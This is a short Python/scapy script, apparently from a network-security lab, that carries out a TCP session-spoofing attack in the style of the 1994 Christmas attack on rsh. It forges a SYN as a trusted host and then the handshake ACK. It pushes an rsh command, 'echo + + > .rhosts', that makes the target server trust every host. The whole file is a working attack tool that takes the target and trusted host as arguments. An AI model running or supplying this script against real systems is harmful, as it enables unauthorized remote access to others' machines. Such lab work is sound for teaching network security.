#!/usr/bin/env python3
# In the manner of the Christmas attack of 1994: a whole rsh session in the name of a trusted host that
# cannot speak for itself, so that nobody answers our lies with RST.
from scapy.all import *
import sys

x_ip, x_port = sys.argv[1], 514       # the server that trusts
srv_ip, srv_port = sys.argv[2], 1023  # the one that is trusted
seq_num = 0x1d0c5e

print("Sending the spoofed SYN packet ...", flush=True)
ip = IP(src=srv_ip, dst=x_ip)
tcp = TCP(sport=srv_port, dport=x_port, flags="S", seq=seq_num)


def spoof(pkt):
    global seq_num
    old_ip = pkt[IP]
    old_tcp = pkt[TCP]
    length = old_ip.len - old_ip.ihl * 4 - old_tcp.dataofs * 4
    print("{}:{} -> {}:{} Flags={} Len={}".format(old_ip.src, old_tcp.sport, old_ip.dst, old_tcp.dport,
                                                  old_tcp.flags, length))
    if old_tcp.flags == "SA":
        seq_num += 1
        answer = IP(src=srv_ip, dst=x_ip) / TCP(sport=srv_port, dport=x_port, flags="A", seq=seq_num,
                                                ack=old_tcp.seq + 1)
        send(answer, verbose=0)
        data = "9090\x00seed\x00seed\x00echo + + > .rhosts\x00"
        answer[TCP].flags = "PA"
        send(answer/data, verbose=0)


sniffer = AsyncSniffer(iface="eth0", filter="tcp and src host %s and src port 514" % x_ip, prn=spoof, count=2)
sniffer.start()
time.sleep(0.5)
send(ip/tcp, verbose=0)
sniffer.join(timeout=10)
print("done")
